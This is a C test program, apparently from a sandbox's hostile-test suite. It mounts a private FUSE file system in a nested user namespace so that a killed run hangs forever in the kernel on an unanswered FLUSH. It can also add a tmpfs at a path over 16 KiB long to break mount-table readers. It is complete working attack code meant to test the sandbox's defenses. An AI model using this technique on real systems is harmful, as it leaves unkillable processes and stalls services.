/* Attack: leave a process stuck in the kernel at exit so that the run
 * never ends. With /dev/fuse granted (--dev-bind), the program mounts a
 * FUSE file system of its own in a nested user + mount namespace, keeps
 * the device open at a high descriptor, opens a file of the mount (a low
 * descriptor) and waits. When the run is killed, the server dies; the
 * waiting process's exit closes the file first, which sends FLUSH and waits
 * for an answer no one will give (uninterruptibly), while the device stays
 * open in its own table: without capsule aborting the connection, the run
 * would never finish. argv[1]: where the device node is. With argv[3]
 * `long`, a tmpfs is mounted first at a path longer than 16 KiB, so that
 * its mount table line comes before the FUSE mount's and is longer than a
 * reader's buffer. */
#include "hostile.h"
#include <linux/fuse.h>
#include <sys/mount.h>

static void write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) {
        out("INFO writing %s: %s", path, en(errno));
        exit(3);
    }
    close(fd);
}

/* Answers INIT, LOOKUP, GETATTR and OPEN of one empty file; ENOSYS else. */
static void serve(int fd) {
    static char buf[FUSE_MIN_READ_BUFFER];
    for (;;) {
        ssize_t n = read(fd, buf, sizeof buf);
        if (n < (ssize_t)sizeof(struct fuse_in_header)) _exit(n < 0 && errno == ENODEV ? 0 : 2);
        struct fuse_in_header *in = (struct fuse_in_header *)buf;
        struct { struct fuse_out_header h; char body[256]; } o;
        memset(&o, 0, sizeof o);
        size_t len = 0;
        struct fuse_attr attr = {0};
        attr.ino = in->nodeid == FUSE_ROOT_ID ? 1 : 2;
        attr.mode = in->nodeid == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644;
        attr.nlink = 1;
        switch (in->opcode) {
        case FUSE_INIT: {
            struct fuse_init_out *i = (struct fuse_init_out *)o.body;
            i->major = FUSE_KERNEL_VERSION;
            i->minor = FUSE_KERNEL_MINOR_VERSION;
            i->max_write = 4096;
            len = sizeof *i;
            break;
        }
        case FUSE_LOOKUP: {
            struct fuse_entry_out *e = (struct fuse_entry_out *)o.body;
            e->nodeid = 2;
            e->attr = attr;
            e->attr.ino = 2;
            e->attr.mode = S_IFREG | 0644;
            len = sizeof *e;
            break;
        }
        case FUSE_GETATTR: {
            struct fuse_attr_out *a = (struct fuse_attr_out *)o.body;
            a->attr = attr;
            len = sizeof *a;
            break;
        }
        case FUSE_OPEN:
            len = sizeof(struct fuse_open_out);
            break;
        case FUSE_FORGET:
        case FUSE_BATCH_FORGET:
            continue;
        default:
            o.h.error = -ENOSYS;
        }
        o.h.len = sizeof o.h + len;
        o.h.unique = in->unique;
        if (write(fd, &o, o.h.len) < 0 && errno != ENOENT) _exit(3);
    }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    char map[64];
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        out("CONTAINED unshare %s", en(errno));
        DONE();
        return 0;
    }
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    write_file("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", gid);
    write_file("/proc/self/gid_map", map);
    int dev = open(argv[1], O_RDWR);
    if (dev < 0 || dup2(dev, 100) != 100) {
        out("INFO opening %s: %s", argv[1], en(errno));
        return 3;
    }
    close(dev);
    if (argc > 3 && strcmp(argv[3], "long") == 0) {
        char name[256];
        memset(name, 'a', 255);
        name[255] = 0;
        if (mkdir("/tmp/deep", 0755) < 0 || chdir("/tmp/deep") < 0) return 3;
        for (int i = 0; i < 70; i++)
            if (mkdir(name, 0755) < 0 || chdir(name) < 0) {
                out("INFO deep directory: %s", en(errno));
                return 3;
            }
        if (mount("deep", ".", "tmpfs", 0, NULL) < 0 || chdir("/") < 0) {
            out("INFO mounting at the deep path: %s", en(errno));
            return 3;
        }
    }
    char opts[128];
    snprintf(opts, sizeof opts, "fd=100,rootmode=40000,user_id=0,group_id=0");
    if (mkdir("/tmp/f", 0755) < 0 || mount("hostile", "/tmp/f", "fuse", 0, opts) < 0) {
        out("INFO mounting: %s", en(errno));
        return 3;
    }
    pid_t server = fork();
    if (server == 0) serve(100);
    int f = open("/tmp/f/file", O_RDONLY);
    if (f < 0) {
        out("INFO opening the FUSE file: %s", en(errno));
        return 3;
    }
    out("INFO fuse=open file=%d device=100", f);
    for (;;) pause();
}
